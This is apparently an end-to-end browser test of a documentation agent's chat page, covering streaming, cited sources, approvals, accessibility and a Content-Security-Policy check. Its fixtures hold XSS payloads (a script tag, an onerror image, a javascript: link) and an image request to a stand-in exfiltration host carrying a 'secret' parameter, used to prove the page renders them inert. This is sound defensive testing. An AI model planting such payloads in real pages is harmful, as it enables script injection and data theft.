// End-to-end test of docs-agent's web page: the real `docs-agent serve` on 127.0.0.1 (the
// scripted model, and a second server whose model streams slowly) and Debian's headless
// Chromium driven by playwright-core. It checks, each with a screenshot under target/browser/:
// a two-turn conversation streamed (Enter sends); Markdown rendered with script, raw HTML and
// outside images inert; a source opened with its cited lines highlighted; an answer rated and
// the admin's gaps view listing its question; an approval across two browser contexts that
// updates the asker's page live; a session reopened after a reload, and sign-out; a turn that
// streams, followed again after a reload and stopped with Esc; a question asked before the list
// of conversations has loaded; and the page at 375 px wide, in light and dark colours: the
// answer first, the composer in the window, a source opened in view; the history searched, a
// conversation renamed and deleted (kept in the log); with two collections, a conversation
// reading the one picked and reopening in it; and axe-core finds no
// serious or critical accessibility violation in those states.
// Prints "N passed, M failed" and exits non-zero on any failure.
import { spawn } from "node:child_process";
import { createHash } from "node:crypto";
import fs from "node:fs";
import http from "node:http";
import os from "node:os";
import path from "node:path";
import { chromium } from "playwright-core";
import { assert, audit, check, finish } from "./harness.mjs";

const root = path.resolve(path.dirname(new URL(import.meta.url).pathname), "../..");
const binary = process.env.DOCS_AGENT_BIN || path.join(root, "target/debug/docs-agent");
const browserPath = process.env.CHROMIUM || "/usr/bin/chromium";
const shots = path.join(root, "target/browser");
const ASKER = "browser-asker-token-0123456789";
const APPROVER = "browser-approver-token-0123456789";
const ADMIN = "browser-admin-token-0123456789";
const sha = (t) => createHash("sha256").update(t).digest("hex");
const REFUND = "how long is the refund window";
const WRITE = "what is in the onboarding integrations";

const shot = (page, name) => page.screenshot({ path: path.join(shots, name + ".png"), fullPage: true });

// A private workspace and config.
const dir = fs.mkdtempSync(path.join(os.tmpdir(), "docs-agent-browser-"));
const ws = path.join(dir, "ws");
fs.cpSync(path.join(root, "workspace"), ws, { recursive: true });
// A doc whose Markdown the scripted model quotes: formatting to render, and HTML, an outside
// image and a script link that must stay inert. Each passage names zebras, so the evidence,
// which keeps only the passages that bear on the question, keeps them all.
fs.writeFileSync(path.join(ws, "docs/zebra.md"), `# Zebra codes

Zebra codes are **bold**:

- first zebra
- second zebra

| zebra | code |
|---|---|
| plain zebra | 1 |

<script>window.pwned = 1</script>
<img src="x" onerror="window.pwned = 2">

![leak](http://127.0.0.1:9/leak.png) [evil](javascript:window.pwned=3)
`);
fs.writeFileSync(path.join(dir, "docs-agent.toml"), `
[serve]
listen = "127.0.0.1:0"
[[serve.tokens]]
principal = "ana"
sha256 = "${sha(ASKER)}"
roles = ["ask"]
[[serve.tokens]]
principal = "cy"
sha256 = "${sha(APPROVER)}"
roles = ["ask", "approve"]
[[serve.tokens]]
principal = "dee"
sha256 = "${sha(ADMIN)}"
roles = ["admin"]
`);
fs.mkdirSync(shots, { recursive: true });

// A model server that streams the start of an answer and then never finishes: a turn to stop.
const slowModel = http.createServer((request, response) => {
  if (request.method === "POST" && request.url.endsWith("/chat/completions")) {
    response.writeHead(200, { "Content-Type": "text/event-stream" });
    const chunk = { id: "c1", object: "chat.completion.chunk", model: "slow", choices: [{ index: 0, delta: { role: "assistant", content: "Still thinking about refunds.\n\n" }, finish_reason: null }] };
    response.write("data: " + JSON.stringify(chunk) + "\n\n");
    return; // held open until the client goes away
  }
  response.writeHead(200, { "Content-Type": "application/json" });
  response.end(JSON.stringify({ object: "list", data: [{ id: "slow", object: "model" }] }));
});
await new Promise((resolve) => slowModel.listen(0, "127.0.0.1", resolve));

// Starts `docs-agent serve` with `env`, and resolves to its base URL.
function serve(name, env) {
  const child = spawn(binary, ["serve"], {
    cwd: dir,
    env: { PATH: process.env.PATH, WORKSPACE: ws, DOCS_AGENT_SESSION_LOG: path.join(dir, name + "/sessions.db"),
           DOCS_AGENT_INDEX: path.join(dir, name + "/index.db"), ...env },
    stdio: ["ignore", "ignore", "pipe"],
  });
  servers.push(child);
  return new Promise((resolve, reject) => {
    let seen = "";
    const timer = setTimeout(() => reject(new Error("the server did not start: " + seen)), 30000);
    child.stderr.on("data", (chunk) => {
      seen += chunk;
      const match = seen.match(/serving on (http:\/\/\S+)/);
      if (match) { clearTimeout(timer); resolve(match[1]); }
    });
    child.on("exit", (code) => reject(new Error("the server exited with " + code + ": " + seen)));
  });
}
const servers = [];
// Its citations link to the docs as an MkDocs site would publish them ([site]).
const SITE = "https://docs.acme.test/help/";
const base = await serve("main", { LLM_MODEL: "scripted", DOCS_AGENT_SITE_URL: SITE, DOCS_AGENT_SITE_GENERATOR: "mkdocs" });
const slowBase = await serve("slow", { LLM_MODEL: "slow", LLM_BASE_URL: "http://127.0.0.1:" + slowModel.address().port + "/v1" });
// A serve of two collections ([[collections]]): billing (the sample) and hr (one page), read by
// one token that reads both.
const BOTH = "browser-both-collections-0123456789";
const hr = path.join(dir, "hr");
fs.mkdirSync(path.join(hr, "docs"), { recursive: true });
fs.writeFileSync(path.join(hr, "docs/leave.md"), "# Leave\n\n## Holiday allowance\n\nEvery employee gets 31 holiday days a year.\n");
fs.writeFileSync(path.join(dir, "collections.toml"), `
state_dir = "${path.join(dir, "collections-state")}"
[serve]
listen = "127.0.0.1:0"
[[serve.tokens]]
principal = "pat"
sha256 = "${sha(BOTH)}"
roles = ["ask"]
collections = ["*"]
[[collections]]
name = "billing"
workspace = "${ws}"
[[collections]]
name = "hr"
workspace = "${hr}"
`);
const collectionsBase = await serve("collections", { LLM_MODEL: "scripted", DOCS_AGENT_CONFIG: path.join(dir, "collections.toml") });

// GETs `route` from the server as `token`'s holder, as JSON.
async function api(token, route) {
  const response = await fetch(base + route, { headers: { Authorization: "Bearer " + token } });
  assert(response.ok, "GET " + route + ": " + response.status);
  return response.json();
}

const browser = await chromium.launch({
  executablePath: browserPath,
  args: ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
         "--disable-component-update", "--disable-sync"],
});
const outside = [];
const consoleErrors = [];
// A new browser context (its own sessionStorage) signed in with `token`; `prepare(page)` runs
// before the page loads.
async function open(token, options = {}, at = base, prepare = async () => {}) {
  const context = await browser.newContext(options);
  const page = await context.newPage();
  await prepare(page);
  // A request the CSP blocks is still announced, then fails; only a response means it left.
  page.on("response", (response) => { if (!response.url().startsWith(at)) outside.push(response.url()); });
  page.on("pageerror", (error) => consoleErrors.push(error.message));
  await page.goto(at + "/");
  await signIn(page, token);
  return page;
}
async function signIn(page, token) {
  await page.fill("#token", token);
  await page.click("#sign-in button[type=submit]");
  await page.waitForSelector("#app:not([hidden])", { timeout: 10000 });
}
// Types `question` and sends it with Enter; resolves once the page shows the turn as recorded.
async function ask(page, question) {
  const before = await page.locator("#turns > li").count();
  await page.fill("#question", question);
  const streamed = page.waitForResponse((r) => r.url().endsWith("/messages") && r.request().method() === "POST");
  await page.press("#question", "Enter");
  const response = await streamed;
  await page.waitForFunction((n) => {
    const turns = document.querySelectorAll("#turns > li");
    return turns.length === n + 1 && !document.querySelector("#turns .answer[aria-busy]") && !document.querySelector("#stop:not([hidden])");
  }, before, { timeout: 20000 }).catch(async (error) => {
    const seen = await page.evaluate(() => ["status", "error", "turns"].map((id) => id + "=" + JSON.stringify(document.getElementById(id).textContent.slice(-300))).join(" "));
    throw new Error("the turn never ended on the page (" + seen + "): " + error.message);
  });
  return response.headers()["content-type"] || "";
}
const lastTurn = (page) => page.locator("#turns > li").last();
// Asks the slow model's server `question` (Enter sends) and waits until its first words show
// in the turn, still running.
async function askSlowModel(page, question) {
  await page.fill("#question", question);
  await page.press("#question", "Enter");
  await page.waitForFunction(() => {
    const answer = document.querySelector("#turns .answer[aria-busy=true]");
    return answer && answer.textContent.includes("Still thinking");
  }, null, { timeout: 15000 });
}
// Waits until the page shows a turn as stopped.
const untilStopped = (page) => page.waitForFunction(
  () => (document.querySelector("#turns .stopped") || { textContent: "" }).textContent.includes("Stopped"), null, { timeout: 15000 });

try {
  const asker = await open(ASKER);

  await check("an empty conversation suggests topics from the docs' headings, gone once a question is asked", async () => {
    await asker.waitForSelector("#suggestions:not([hidden]) button.suggestion", { timeout: 10000 });
    const offered = await asker.evaluate(() => [...document.querySelectorAll("#suggestion-list li")].map((li) => li.textContent));
    assert(offered.length >= 1 && offered.length <= 4 && offered.every((o) => o.includes(" > ") && o.includes("from the docs")),
      "headings of the docs, marked so: " + JSON.stringify(offered));
    await shot(asker, "suggestions");
  });

  await check("a two-turn conversation streams in, in order, with tool steps and sources", async () => {
    const first = await ask(asker, REFUND);
    assert(await asker.locator("#suggestions").isHidden(), "the suggestions are gone once a question is asked");
    assert(first.startsWith("text/event-stream"), "the turn was streamed: " + first);
    await ask(asker, "and what about annual plans");
    const turns = await asker.evaluate(() => [...document.querySelectorAll("#turns > li")].map((li) => ({
      question: li.querySelector(".question").textContent,
      answer: li.querySelector(".answer").textContent,
      steps: li.querySelectorAll(".steps li").length,
      collapsed: !li.querySelector(".steps").open,
      sources: [...li.querySelectorAll(".sources li")].map((s) => s.textContent),
    })));
    assert(turns.length === 2, "two turns: " + JSON.stringify(turns));
    assert(turns[0].question === REFUND && turns[1].question === "and what about annual plans", "in order: " + JSON.stringify(turns));
    assert(turns[0].answer.includes("14 days"), "the first answer: " + turns[0].answer);
    assert(turns.every((t) => t.steps >= 1 && t.collapsed), "tool steps, collapsed: " + JSON.stringify(turns));
    assert(turns[0].sources.some((s) => s.includes("docs/refunds.md") && s.includes("verified")), "a verified source: " + JSON.stringify(turns[0].sources));
    const listed = await asker.textContent("#sessions");
    assert(listed.includes(REFUND), "the conversation is listed by its first question: " + listed);
    await shot(asker, "conversation");
  });

  await check("a source opens beside the conversation rendered, its cited lines highlighted, linking to its docs page and on to other sections", async () => {
    const out = asker.locator("#turns > li").first().locator(".sources a.docs-link").first();
    const link = { href: await out.getAttribute("href"), target: await out.getAttribute("target"), rel: await out.getAttribute("rel") };
    assert(link.href === SITE + "refunds/#window" && link.target === "_blank" && link.rel.includes("noopener"),
      "the source links to its page on the docs site: " + JSON.stringify(link));
    await asker.locator("#turns > li").first().locator(".sources button.source").first().click();
    await asker.waitForSelector("#section-panel:not([hidden])", { timeout: 10000 });
    const shown = await asker.evaluate(() => ({
      source: document.getElementById("section-source").textContent,
      marked: [...document.querySelectorAll("#section-text mark.cited")].map((m) => m.textContent),
      paragraphs: [...document.querySelectorAll("#section-text p")].map((p) => p.textContent),
      text: document.getElementById("section-text").textContent,
      cited: document.getElementById("section-cited").textContent,
    }));
    assert(shown.source.startsWith("docs/refunds.md"), "the source is shown: " + shown.source);
    // Rendered, not raw: paragraphs of joined lines, no Markdown syntax shown.
    assert(shown.paragraphs.length >= 2 && !shown.text.includes("](") && !shown.text.includes("##"),
      "the section is rendered Markdown: " + JSON.stringify(shown));
    assert(shown.paragraphs.some((p) => p.includes("refund window. It starts on the date")), "a wrapped paragraph is one paragraph: " + JSON.stringify(shown.paragraphs));
    // Line by line, as the answer drew on them: some of the section, not all of it.
    const markedLength = shown.marked.join("").length;
    assert(markedLength > 0 && markedLength < shown.text.length * 0.9, "some lines highlighted: " + JSON.stringify(shown));
    assert(shown.marked.some((m) => m.includes("14 days")), "the answer's fact is highlighted: " + JSON.stringify(shown.marked));
    assert(/highlighted/.test(shown.cited), "the panel says what is highlighted: " + shown.cited);
    const panelLink = await asker.locator("#section-source a.docs-link").getAttribute("href");
    assert(panelLink === SITE + "refunds/#window", "the open section links out to its page: " + panelLink);
    await shot(asker, "source");
    // The section's own relative link ([disputes](disputes.md)) opens that section here.
    await asker.locator("#section-text button.cite", { hasText: "disputes" }).click();
    await asker.waitForFunction(() => document.getElementById("section-source").textContent.startsWith("docs/disputes.md"), null, { timeout: 10000 });
    const next = await asker.evaluate(() => document.querySelectorAll("#section-text mark").length);
    assert(next === 0, "a section opened from another has nothing highlighted: " + next);
  });

  await check("an answer rated not helpful shows in the admin's docs-gaps view", async () => {
    const turn = asker.locator("#turns > li").first();
    await turn.locator(".feedback input").fill("nothing about annual plans");
    await turn.locator(".feedback button.not-helpful").click();
    await turn.locator(".feedback .said", { hasText: "not helpful" }).waitFor({ timeout: 10000 });
    await shot(asker, "feedback");
    const admin = await open(ADMIN);
    assert(await admin.locator("#show-approvals").isHidden(), "an admin does not approve");
    await admin.click("#show-gaps");
    await admin.waitForSelector("#gaps-panel:not([hidden]) .gap", { timeout: 10000 });
    const gaps = await admin.evaluate(() => [...document.querySelectorAll("#gaps .gap")].map((g) => g.textContent));
    const gap = gaps.find((g) => g.includes(REFUND));
    assert(gap && gap.includes("not helpful") && gap.includes("nothing about annual plans"), "the question, why and the comment: " + JSON.stringify(gaps));
    assert(gap.includes("docs/refunds.md"), "with the closest section: " + gap);
    await shot(admin, "gaps");
    assert(await asker.locator("#show-gaps").isHidden(), "an asker has no gaps view");
    await admin.context().close();
  });

  await check("an answer's Markdown is rendered, and its HTML, image and script link stay inert", async () => {
    await asker.click("#new-session");
    await ask(asker, "what are zebra codes");
    const shown = await asker.evaluate(() => {
      const box = [...document.querySelectorAll("#turns .answer")].pop();
      const count = (selector) => box.querySelectorAll(selector).length;
      return { items: count("li"), tables: count("table td"), strong: count("strong"), active: count("script, img, iframe, [onerror]"),
               links: [...box.querySelectorAll("a")].map((a) => a.href), pwned: window.pwned === undefined ? null : window.pwned,
               text: box.textContent, turns: document.querySelectorAll("#turns > li").length };
    });
    assert(shown.turns === 1, "a new conversation starts empty: " + shown.turns);
    assert(shown.items >= 2 && shown.tables >= 1 && shown.strong >= 1, "lists, tables and emphasis are elements: " + JSON.stringify(shown));
    assert(shown.active === 0, "no script, image or handler in the answer: " + JSON.stringify(shown));
    assert(shown.pwned === null, "nothing ran: window.pwned = " + shown.pwned);
    assert(shown.links.every((href) => /^https?:|^mailto:/.test(href)), "no script link: " + shown.links);
    assert(shown.text.includes("first zebra"), "the text is shown: " + shown.text);
    await shot(asker, "markdown");
  });

  await check("the page blocks an outside image (Content-Security-Policy)", async () => {
    const blocked = await asker.evaluate(() => new Promise((resolve) => {
      document.addEventListener("securitypolicyviolation", (e) => resolve(e.blockedURI + " " + e.violatedDirective), { once: true });
      const img = document.createElement("img");
      img.src = "https://exfil.example/leak.png?secret=x";
      document.body.appendChild(img);
      setTimeout(() => resolve("no violation"), 3000);
    }));
    assert(blocked.includes("exfil.example") && blocked.includes("img-src"), "blocked: " + blocked);
  });

  await check("a write waits; an approver sees its conversation and content in another browser and approves; the asker's page updates live", async () => {
    assert(await asker.locator("#approvals-panel").isHidden(), "an asker has no approvals panel");
    await asker.click("#new-session");
    await asker.fill("#question", WRITE);
    await asker.press("#question", "Enter");
    await asker.waitForSelector("#waiting:not([hidden])", { timeout: 15000 });
    const approver = await open(APPROVER);
    const item = approver.locator("#approvals li.approval").first();
    await item.waitFor({ timeout: 10000 });
    const listed = await item.textContent();
    assert(listed.includes("notes/leak.txt"), "the target path: " + listed);
    assert(listed.includes(WRITE), "the conversation it came from: " + listed);
    assert(listed.includes("ana"), "whose session: " + listed);
    assert(!listed.includes("4eC39HqLyjWDarjtT1zdp7dc") && listed.includes("REDACTED"), "the exact content, redacted: " + listed);
    await shot(approver, "approvals");
    await item.locator("button[data-decision=once]").click();
    await approver.locator("#approvals li.empty").waitFor({ timeout: 10000 });
    // No reload: the asker's page follows the session and shows the answer.
    await asker.waitForSelector("#waiting[hidden]", { state: "attached", timeout: 15000 });
    await asker.waitForFunction(() => {
      const turn = [...document.querySelectorAll("#turns > li")].pop();
      return turn && turn.querySelector(".answer").textContent.length > 0 && turn.querySelector(".steps").textContent.includes("granted");
    }, null, { timeout: 15000 });
    assert(fs.existsSync(path.join(ws, "notes/leak.txt")), "the approved note was written");
    await shot(asker, "approved");
    await approver.context().close();
  });

  await check("after a reload the conversation reopens; an earlier one reopens from the list; sign-out forgets the token", async () => {
    const before = await asker.locator("#turns > li").count();
    await asker.reload();
    await asker.waitForSelector("#app:not([hidden])", { timeout: 10000 });
    await asker.waitForFunction((n) => document.querySelectorAll("#turns > li").length === n, before, { timeout: 10000 });
    const items = await asker.locator("#sessions button.session").count();
    assert(items === 3, "three conversations listed: " + items);
    await asker.locator("#sessions button.session", { hasText: REFUND }).click();
    await asker.waitForFunction(() => document.querySelectorAll("#turns > li").length === 2, null, { timeout: 10000 });
    const rated = await asker.locator("#turns > li").first().locator(".feedback .said").textContent();
    assert(rated.includes("not helpful"), "its rating is shown: " + rated);
    await shot(asker, "reopened");
    await asker.click("#sign-out");
    // Signing out is a call to the server: the form shows when it is done, and again after a reload.
    await asker.waitForSelector("#sign-in", { state: "visible", timeout: 10000 });
    await asker.reload();
    const back = await asker.waitForSelector("#sign-in", { state: "visible", timeout: 10000 }).then(() => true, () => false);
    assert(back, "signed out: the token is gone");
    assert(await asker.locator("#app").isHidden(), "nothing of the conversation shows");
    await signIn(asker, ASKER);
  });

  await check("a streaming turn shows its text as it comes; reloaded, the page follows it, and Esc stops it", async () => {
    const page = await open(ASKER, {}, slowBase);
    await askSlowModel(page, "refund window?");
    assert(await page.locator("#stop").isVisible(), "a stop button while it runs");
    // Reloaded mid-turn, the page finds the turn still running, follows it, and can stop it.
    await page.reload();
    await page.waitForSelector("#stop:not([hidden])", { timeout: 10000 });
    assert(await page.locator("#resume").isHidden(), "a running turn is not offered for resuming");
    const status = await page.textContent("#status");
    assert(status.includes("running"), "the page says the turn runs: " + status);
    await page.keyboard.press("Escape");
    await untilStopped(page);
    const said = await page.textContent("#turns .stopped");
    assert(said.includes("Stopped"), "the turn says it was stopped: " + said);
    const partial = await page.textContent("#turns .partial");
    assert(partial.includes("Still thinking"), "what it had said is kept: " + partial);
    assert(await page.locator("#stop").isHidden(), "no stop button once stopped");
    await shot(page, "stopped");
    await page.context().close();
  });

  await check("a question asked before the list of conversations has loaded keeps its turn on the page", async () => {
    // The page's first read of the list is held until the question streams: the conversation
    // the question started must not be reopened (and its live turn wiped) when the list comes.
    let release;
    const held = new Promise((resolve) => { release = resolve; });
    let first = true;
    const page = await open(ASKER, {}, slowBase, (page) => page.route((url) => url.pathname === "/v1/sessions", async (route) => {
      if (route.request().method() === "GET" && first) { first = false; await held; }
      await route.continue();
    }));
    await askSlowModel(page, "refund window, asked early?");
    release();
    await page.locator("#sessions button.session", { hasText: "asked early" }).waitFor({ timeout: 10000 });
    await page.keyboard.press("Escape");
    await untilStopped(page);
    const turns = await page.evaluate(() => [...document.querySelectorAll("#turns > li")].map((li) => li.querySelector(".question").textContent));
    assert(turns.length === 1 && turns[0].includes("asked early"), "the one turn asked, shown once: " + JSON.stringify(turns));
    await page.context().close();
  });

  await check("at 375 px wide nothing overflows, in light and dark colours", async () => {
    for (const colorScheme of ["light", "dark"]) {
      const page = await open(ASKER, { viewport: { width: 375, height: 800 }, colorScheme });
      await page.locator("#sessions button.session", { hasText: REFUND }).click();
      await page.waitForFunction(() => document.querySelectorAll("#turns > li").length === 2, null, { timeout: 10000 });
      const shown = await page.evaluate(() => ({
        width: document.documentElement.scrollWidth,
        background: getComputedStyle(document.body).backgroundColor,
        send: document.getElementById("ask").getBoundingClientRect().right,
      }));
      assert(shown.width <= 375, colorScheme + ": the page is " + shown.width + " px wide");
      assert(shown.send <= 375, colorScheme + ": the send button is in view");
      const dark = shown.background === "rgb(18, 20, 23)";
      assert(dark === (colorScheme === "dark"), colorScheme + ": the background is " + shown.background);
      // The conversation comes before the list of conversations, the composer stays in the
      // window, and a source opens where it is seen without scrolling.
      const order = await page.evaluate(() => ({
        chat: document.getElementById("chat").getBoundingClientRect().top,
        nav: document.getElementById("sidebar").getBoundingClientRect().top,
        composer: document.getElementById("ask-form").getBoundingClientRect().bottom,
        height: window.innerHeight,
      }));
      assert(order.chat < order.nav, colorScheme + ": the answer comes first: " + JSON.stringify(order));
      assert(order.composer <= order.height + 1, colorScheme + ": the composer is in the window: " + JSON.stringify(order));
      await page.locator("#turns > li").first().locator(".sources button.source").first().click();
      await page.waitForSelector("#section-panel:not([hidden])", { timeout: 10000 });
      const sheet = await page.evaluate(() => {
        const box = document.getElementById("section-panel").getBoundingClientRect();
        return { top: box.top, bottom: box.bottom, height: window.innerHeight };
      });
      assert(sheet.top >= 0 && sheet.top < sheet.height && sheet.bottom <= sheet.height + 1, colorScheme + ": the source is in view: " + JSON.stringify(sheet));
      await shot(page, "narrow-source-" + colorScheme);
      await page.click("#section-panel button.close");
      await shot(page, "narrow-" + colorScheme);
      await page.context().close();
    }
  });

  await check("no serious or critical accessibility violations (axe-core) on the sign-in, a conversation with its source, the gaps view, and a phone in dark colours", async () => {
    const context = await browser.newContext();
    const signedOut = await context.newPage();
    await signedOut.goto(base + "/");
    await signedOut.waitForSelector("#sign-in:not([hidden])");
    await audit(signedOut, "the sign-in");
    await context.close();
    const wide = await open(ASKER);
    await wide.locator("#sessions button.session", { hasText: REFUND }).click();
    await wide.waitForFunction(() => document.querySelectorAll("#turns > li").length === 2, null, { timeout: 10000 });
    await wide.locator("#turns > li").first().locator(".sources button.source").first().click();
    await wide.waitForSelector("#section-panel:not([hidden])", { timeout: 10000 });
    await audit(wide, "a conversation with its source open");
    await wide.context().close();
    const admin = await open(ADMIN);
    await admin.click("#show-gaps");
    await admin.waitForSelector("#gaps-panel:not([hidden]) .gap", { timeout: 10000 });
    await audit(admin, "the gaps view");
    await admin.context().close();
    const phone = await open(ASKER, { viewport: { width: 375, height: 800 }, colorScheme: "dark" });
    await phone.locator("#sessions button.session", { hasText: REFUND }).click();
    await phone.waitForFunction(() => document.querySelectorAll("#turns > li").length === 2, null, { timeout: 10000 });
    await audit(phone, "a phone in dark colours");
    await phone.context().close();
  });

  await check("the history is searched, a conversation renamed in place and deleted from the list, kept in the log", async () => {
    const page = await open(ASKER);
    const zebra = page.locator("#sessions li.listed", { hasText: "zebra" }).first();
    const id = await zebra.locator("button.session").getAttribute("data-id");
    await zebra.locator("button.rename").click();
    await page.fill("#sessions .rename-form input", "Zebra codes for the Acme ticket");
    await page.press("#sessions .rename-form input", "Enter");
    await page.locator("#sessions button.session", { hasText: "Zebra codes for the Acme ticket" }).waitFor({ timeout: 10000 });
    await page.fill("#history-search", "ACME ticket");
    await page.waitForFunction(() => {
      const found = [...document.querySelectorAll("#sessions button.session")];
      return found.length === 1 && found[0].textContent.includes("Acme ticket");
    }, null, { timeout: 10000 });
    await shot(page, "history-search");
    await page.fill("#history-search", "");
    await page.waitForFunction(() => document.querySelectorAll("#sessions button.session").length > 1, null, { timeout: 10000 });
    page.once("dialog", (dialog) => dialog.accept());
    await page.locator("#sessions li.listed", { hasText: "Acme ticket" }).locator("button.delete").click();
    await page.locator("#sessions li.listed", { hasText: "Acme ticket" }).waitFor({ state: "detached", timeout: 10000 });
    const listed = await api(ASKER, "/v1/sessions");
    assert(!listed.sessions.some((s) => s.id === id), "gone from the list: " + JSON.stringify(listed));
    const kept = await api(ASKER, "/v1/sessions/" + id + "/events");
    const kinds = kept.events.map((e) => e.event.type);
    assert(kinds.includes("user_message") && kinds.includes("session_renamed") && kinds.includes("session_closed"),
      "the log keeps it, its name and its deletion: " + kinds.join(", "));
    await page.context().close();
  });

  await check("a suggestion picked on a new conversation is asked and answered", async () => {
    const page = await open(ASKER);
    await page.click("#new-session");
    const first = page.locator("#suggestion-list button.suggestion").first();
    await first.waitFor({ timeout: 10000 });
    await audit(page, "an empty conversation with suggestions");
    const label = await first.textContent();
    await page.fill("#question", "a draft of my own");
    await first.click();
    await page.waitForFunction(() => {
      const turn = document.querySelector("#turns > li");
      return turn && turn.querySelector(".answer").textContent.length > 0 && !turn.querySelector(".answer[aria-busy]");
    }, null, { timeout: 20000 });
    const turn = await page.evaluate(() => ({
      question: document.querySelector("#turns > li .question").textContent,
      sources: document.querySelectorAll("#turns > li .sources button.source").length,
    }));
    const heading = label.split(" > ");
    assert(turn.question === heading[0] + ": " + heading[heading.length - 1],
      "the picked topic is asked: " + JSON.stringify({ label, turn }));
    assert(turn.sources > 0, "and answered from the docs: " + JSON.stringify(turn));
    assert(await page.locator("#suggestions").isHidden(), "the suggestions are gone");
    assert(await page.inputValue("#question") === "a draft of my own", "what was typed stays in the box");
    await page.context().close();
  });

  await check("with several collections, a conversation reads the one picked, and reopens in it", async () => {
    const page = await open(BOTH, {}, collectionsBase);
    await page.waitForSelector("#collection-picker:not([hidden])", { timeout: 10000 });
    const names = await page.$$eval("#collection option", (options) => options.map((o) => o.value));
    assert(JSON.stringify(names) === JSON.stringify(["billing", "hr"]), "the picker lists both: " + names);
    await page.selectOption("#collection", "hr");
    await ask(page, "how many holiday days does an employee get");
    const hrTurn = await lastTurn(page).textContent();
    assert(hrTurn.includes("leave.md") && !hrTurn.includes("refunds.md"), "hr's docs answer: " + hrTurn);
    await page.selectOption("#collection", "billing");
    assert(await page.locator("#turns > li").count() === 0, "picking another collection starts a new conversation");
    await ask(page, REFUND);
    const billingTurn = await lastTurn(page).textContent();
    assert(billingTurn.includes("refunds.md") && !billingTurn.includes("leave.md"), "billing's docs answer: " + billingTurn);
    await shot(page, "collections");
    // The hr conversation, listed with its collection and reopened from the list, says it reads hr.
    const listed = page.locator("#sessions button.session", { hasText: "holiday" });
    assert((await listed.textContent()).includes("· hr"), "the list names its collection: " + await listed.textContent());
    await listed.click();
    await page.waitForFunction(() => document.getElementById("collection").value === "hr", null, { timeout: 10000 });
    await page.context().close();
  });

  await check("nothing was fetched from anywhere but the server, and no script error", async () => {
    assert(outside.length === 0, "outside responses: " + outside.join(", "));
    assert(consoleErrors.length === 0, "script errors: " + consoleErrors.join(" | "));
  });
} finally {
  await browser.close();
  for (const child of servers) child.kill("SIGTERM");
  slowModel.close();
  slowModel.closeAllConnections();
}
finish();
